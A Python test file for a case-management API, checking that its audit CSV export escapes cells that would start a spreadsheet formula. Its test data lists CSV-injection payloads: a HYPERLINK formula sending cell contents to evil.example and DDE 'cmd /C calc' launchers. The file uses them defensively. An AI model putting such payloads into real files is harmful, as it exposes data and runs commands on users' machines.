"""The audit CSV shows text that looks like a formula as text (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import json
from datetime import date

from fastapi.testclient import TestClient

from api.auth import DevelopmentTokens
from domain.actor import Role
from projections.csv_cells import safe_cell
from tests.api.conftest import NEW_CASE, Auth

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def test_formulas_in_reasons_and_names_reach_the_csv_as_text(
    client: TestClient, auth: Auth, tokens: DevelopmentTokens
) -> None:
    # A name from the identity provider is not stripped: a tab or CR reaches the cell as sent.
    for number, name in enumerate(("\t=1+1", "\r=1+1", " =1+1")):
        token = tokens.issue(
            subject="portal:1", name=name, role=Role.APPLICANT, tenant="usingen", scopes=()
        )
        submitted = client.post(
            "/api/v1/cases",
            json=NEW_CASE,
            headers={"Authorization": f"Bearer {token}", "Idempotency-Key": f"k{number}"},
        )
        assert submitted.status_code == 201, submitted.text

    clerk = auth("clerk")
    case_ids = []
    position = 0
    for reason in FORMULAS:
        case = client.post("/api/v1/cases", json=NEW_CASE, headers=clerk).json()
        withdrawn = client.post(
            f"/api/v1/cases/{case['id']}/withdraw", json={"reason": reason}, headers=clerk
        )
        assert withdrawn.status_code == 200, withdrawn.text
        case_ids.append(case["id"])
        position = withdrawn.json()["position"]

    exported = client.get(
        "/api/v1/audit",
        params={"format": "csv", "min_position": position},
        headers=auth("auditor"),
    )
    assert exported.status_code == 200, exported.text
    table = list(csv.DictReader(io.StringIO(exported.text, newline="")))
    withdrawals = {
        row["case_id"]: row["reason"] for row in table if row["event_type"] == "Withdrawn"
    }
    assert [withdrawals[case_id] for case_id in case_ids] == ["'" + f for f in FORMULAS]
    names = {row["actor_name"] for row in table if row["actor_id"] == "portal:1"}
    assert names == {"'\t=1+1", "'\r=1+1", "' =1+1"}
    for row in table:
        for cell in row.values():
            assert cell.lstrip()[:1] not in set("=+-@") or cell.startswith("'"), cell


def test_a_cell_is_neutralised_only_when_it_would_start_a_formula() -> None:
    assert safe_cell("=1+1") == "'=1+1"
    assert safe_cell("\u3000\uff1d1+1") == "'\u3000\uff1d1+1"  # full-width, after a space
    assert safe_cell("Antrag -2") == "Antrag -2"
    assert safe_cell("") == ""
    assert safe_cell(-5) == -5  # a number is a number
    assert safe_cell(None) is None


def test_changes_holding_dates_reach_the_csv_as_iso_text(client: TestClient, auth: Auth) -> None:
    # Confirming completeness starts the processing clock: its change holds dates.
    clerk = auth("clerk")
    case = client.post("/api/v1/cases", json=NEW_CASE, headers=clerk).json()
    url = f"/api/v1/cases/{case['id']}"
    assert client.post(url + "/claim", headers=clerk).status_code == 200
    confirmed = client.post(url + "/confirm-complete", headers=clerk)
    assert confirmed.status_code == 200, confirmed.text

    exported = client.get(
        "/api/v1/audit",
        params={
            "format": "csv",
            "case_id": case["id"],
            "min_position": confirmed.json()["position"],
        },
        headers=auth("auditor"),
    )
    assert exported.status_code == 200, exported.text
    rows = list(csv.DictReader(io.StringIO(exported.text, newline="")))
    changes = next(row["changes"] for row in rows if row["event_type"] == "CompletenessConfirmed")
    started = json.loads(changes)["clock"]["new"]["started_on"]
    assert date.fromisoformat(started).year == 2026
